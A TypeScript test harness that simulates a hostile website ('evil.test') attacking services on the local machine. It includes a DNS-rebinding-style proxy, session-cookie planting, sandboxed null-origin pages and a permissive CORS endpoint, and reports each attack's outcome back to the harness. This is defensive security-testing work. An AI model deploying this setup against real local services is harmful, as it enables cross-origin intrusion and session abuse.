import { once } from 'node:events'
import { createServer, type IncomingMessage, request, type ServerResponse } from 'node:http'
import { type AddressInfo, connect, type Socket } from 'node:net'
import { text } from 'node:stream/consumers'
import { setTimeout as wait } from 'node:timers/promises'
import { attack, type Outcome, type Target } from './attack'

/** A page of the attacker's, at an address of any name. */
export interface HostilePage {
  /** `http://evil.test`, without a path. */
  readonly origin: string
  readonly targets: readonly Target[]
  /** Its origin is `null`. */
  readonly sandboxed?: boolean
}

export interface Attacker {
  readonly port: number
  /** For the browser to open: the first page, which leads to the next when it is done. */
  readonly start: (pages: readonly HostilePage[]) => string
  /** What each page came to, in their order, as far as they got in that time; then the attacker is gone. */
  readonly outcomes: (withinMs: number) => Promise<readonly Outcome[]>
}

/**
 * A site on this machine that attacks whatever else runs on it, and the proxy through which a browser reaches names that
 * end in `.test`. Such a name leads to the attacker's pages and, for every other path, to this machine: as when it is
 * rebound once the page has come.
 * @param cookie a session of the product's, which the browser then has for this machine, since cookies know no ports
 */
export async function startAttacker(cookie: string): Promise<Attacker> {
  const reports = new Map<number, Outcome>()
  const done = Promise.withResolvers<void>()
  let pages: readonly HostilePage[] = []
  const server = createServer((incoming, outgoing) => {
    const url = new URL(incoming.url ?? '/', 'http://own')
    const [, kind, number = ''] = url.pathname.split('/')
    if (kind === 'attack') show(Number(number), outgoing)
    else if (kind === 'report') report(Number(number), incoming, outgoing).catch(done.reject)
    else if (kind === 'control') answerAnyPage(incoming, outgoing)
    else passOn(incoming, outgoing, url)
  })
  server.on('connect', ({ url = '' }, socket: Socket) => {
    const rebound = connect(portOf(new URL(`http://${url}`)), '127.0.0.1', () => {
      socket.write('HTTP/1.1 200 OK\r\n\r\n')
      socket.pipe(rebound).pipe(socket)
    })
    for (const end of [socket, rebound]) end.on('error', () => end.destroy())
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo

  function show(number: number, outgoing: ServerResponse): void {
    const page = pages[number]
    const next = pages[number + 1]
    const last = `document.title = 'done'`
    outgoing.writeHead(200, {
      'content-type': 'text/html',
      'set-cookie': `${cookie}; Path=/; HttpOnly; SameSite=Strict`,
      ...(page?.sandboxed ? { 'content-security-policy': 'sandbox allow-scripts allow-forms' } : {}),
    })
    outgoing.end(`<!doctype html><body><script>
      (${attack})(${JSON.stringify(page?.targets)})
        .then((outcome) => fetch('http://127.0.0.1:${port}/report/${number}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(outcome) }))
        .then(() => { ${next ? `location = '${next.origin}/attack/${number + 1}'` : last} })
    </script>`)
  }

  async function report(number: number, incoming: IncomingMessage, outgoing: ServerResponse): Promise<void> {
    reports.set(number, JSON.parse(await text(incoming)))
    outgoing.end()
    if (reports.size === pages.length) done.resolve()
  }

  return {
    port,
    start(given) {
      pages = given
      return `${pages[0]?.origin}/attack/0`
    },
    async outcomes(withinMs) {
      await Promise.race([done.promise, wait(withinMs, undefined, { ref: false })])
      server.close().closeAllConnections()
      return pages.flatMap((_page, number) => reports.get(number) ?? [])
    },
  }
}

/** What the browser must not protect, or the attempts would fail for its sake. */
function answerAnyPage({ headers: { origin = '*' } }: IncomingMessage, outgoing: ServerResponse): void {
  const headers = { 'access-control-allow-origin': origin, 'access-control-allow-credentials': 'true' }
  outgoing.writeHead(200, headers).end()
}

const portOf = ({ port }: URL) => Number(port || 80)

function passOn(incoming: IncomingMessage, outgoing: ServerResponse, url: URL): void {
  const { method, headers } = incoming
  const path = url.pathname + url.search
  const sent = request({ host: '127.0.0.1', port: portOf(url), method, path, headers }, (answer) => {
    outgoing.writeHead(answer.statusCode ?? 502, answer.headers)
    answer.pipe(outgoing)
  })
  sent.on('error', () => outgoing.destroy())
  incoming.pipe(sent)
}
